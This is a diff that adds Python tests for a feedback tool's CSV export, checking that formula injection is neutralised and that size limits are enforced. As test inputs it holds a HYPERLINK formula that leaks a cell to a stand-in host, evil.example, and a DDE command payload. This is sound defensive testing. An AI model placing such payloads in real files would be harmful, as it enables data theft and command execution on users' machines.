@@ -78,3 +78,110 @@ def test_cli_feedback_export(tmp_path, capsys):
     assert row["rating"] == "1" and row["comment"] == "ok"
     assert main(["feedback", "export", "--db", str(db)]) == 0
     assert capsys.readouterr().out.startswith("id,answer_id,")
+
+
+# --- CSV formula injection: what a spreadsheet would run must reach it as text -----------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+# (field the text is stored in, text, exported cell). OWASP: any text starting with = + - @ tab CR gets
+# a leading ', even "-5 degrees"; a spreadsheet cannot tell it from a formula, so neither do we.
+INJECTIONS = [
+    ("comment", HYPERLINK, "'" + HYPERLINK),
+    ("question", "=1+1", "'=1+1"),
+    ("question", "+SUM(1,2)", "'+SUM(1,2)"),
+    ("question", "-2+3", "'-2+3"),
+    ("question", "@SUM(A1:A9)", "'@SUM(A1:A9)"),
+    ("question", "\t=1+1", "'\t=1+1"),
+    ("question", "\r=1+1", "'\r=1+1"),
+    ("question", "-5 degrees in Kabul in January?", "'-5 degrees in Kabul in January?"),
+    ("answer", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
+    ("query", "@x", "'@x"),
+    # left alone: no formula start, or already the neutral apostrophe
+    ("comment", "a = b, fine", "a = b, fine"),
+    ("comment", "'quoted", "'quoted"),
+    ("question", "Who coordinates TAPI?", "Who coordinates TAPI?"),
+]
+
+
+@pytest.fixture(scope="module")
+def exported(tmp_path_factory) -> dict[str, dict[str, str]]:
+    """Every INJECTIONS text stored through the library in a real SQLite file, exported by the real CLI."""
+    import subprocess
+    import sys
+
+    base = tmp_path_factory.mktemp("injection")
+    db = base / "fb.sqlite3"
+    for i, (field, text, _) in enumerate(INJECTIONS):
+        if field == "comment":
+            feedback.record(db, f"a{i}", answer=ANSWER, rating="down", comment=text)
+        else:
+            feedback.record(db, f"a{i}", answer={**ANSWER, field: text}, rating="down")
+    out = base / "fb.csv"
+    command = [sys.executable, "-m", "journalqa.cli", "feedback", "export", "--csv", "--db", str(db), "--out", str(out)]
+    result = subprocess.run(command, capture_output=True, text=True, timeout=60)
+    assert result.returncode == 0, result.stderr
+    with out.open(encoding="utf-8", newline="") as handle:
+        return {row["answer_id"]: row for row in csv.DictReader(handle)}
+
+
+@pytest.mark.parametrize(("i", "field", "text", "cell"), [(i, *case) for i, case in enumerate(INJECTIONS)])
+def test_export_neutralises_formula_cells(exported, i, field, text, cell):
+    row = exported[f"a{i}"]
+    assert row[field] == cell
+    assert row["rating"] == "-1"  # our own number stays a number a spreadsheet can sum
+
+
+def test_stored_text_is_left_exact(tmp_path):
+    db = tmp_path / "fb.sqlite3"
+    feedback.record(db, "a1", answer={**ANSWER, "question": "=1+1"}, comment=HYPERLINK)
+    [row] = feedback.rows(db)
+    assert row["question"] == "=1+1" and row["comment"] == HYPERLINK
+
+
+# --- size limits ----------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("length", "limit", "message"),
+    [
+        (5_000_000, None, "comment is 5,000,000 characters, over the 4,000 limit"),
+        (4001, None, "comment is 4,001 characters, over the 4,000 limit"),
+        (11, 10, "comment is 11 characters, over the 10 limit"),
+    ],
+)
+def test_comment_over_the_limit_is_refused_and_nothing_changes(tmp_path, length, limit, message):
+    db = tmp_path / "fb.sqlite3"
+    feedback.record(db, "a1", answer=ANSWER, rating="up", comment="first")
+    with pytest.raises(feedback.FeedbackTooLong) as caught:
+        feedback.record(db, "a1", answer=ANSWER, rating="down", comment="x" * length, max_comment_chars=limit)
+    assert str(caught.value) == message
+    assert isinstance(caught.value, ValueError)
+    [row] = feedback.rows(db)
+    assert (row["comment"], row["rating"]) == ("first", 1)  # the refused call stored nothing, not even the thumb
+
+
+def test_comment_at_the_limit_is_stored(tmp_path):
+    db = tmp_path / "fb.sqlite3"
+    feedback.record(db, "a1", answer=ANSWER, comment="x" * 4000)
+    feedback.record(db, "a2", answer=ANSWER, comment="y" * 50, max_comment_chars=50)
+    assert [len(r["comment"]) for r in feedback.rows(db)] == [4000, 50]
+
+
+def test_default_limit_is_the_settings_default():
+    from journalqa.config import Settings
+
+    assert Settings().max_comment_chars == 4000
+
+
+@pytest.mark.parametrize("field", ["question", "query", "answer"])
+def test_huge_answer_text_is_cut_not_refused(tmp_path, field):
+    db = tmp_path / "fb.sqlite3"
+    feedback.record(db, "a1", answer={**ANSWER, field: "z" * 1_000_000}, rating="up")
+    [row] = feedback.rows(db)
+    assert len(row[field]) == feedback.MAX_STORED_TEXT_CHARS
+    assert row[field].endswith("[truncated]") and row["rating"] == 1
+
+
+def test_huge_answer_id_is_refused(tmp_path):
+    with pytest.raises(feedback.FeedbackTooLong, match="answer id is 10,000 characters, over the 200 limit"):
+        feedback.record(tmp_path / "fb.sqlite3", "i" * 10_000, answer=ANSWER, rating="up")
